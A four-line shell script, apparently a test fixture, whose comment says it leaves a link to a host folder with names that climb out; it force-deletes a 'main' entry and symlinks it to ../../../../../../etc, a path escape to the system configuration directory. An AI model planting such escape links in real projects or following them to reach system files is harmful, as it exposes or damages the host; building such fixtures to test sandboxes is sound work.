# Leaves a link to a whole folder of the host, and names that climb out.
export box="$(dirname "$0")"
rm -rf $box/main
ln -s ../../../../../../etc $box/main
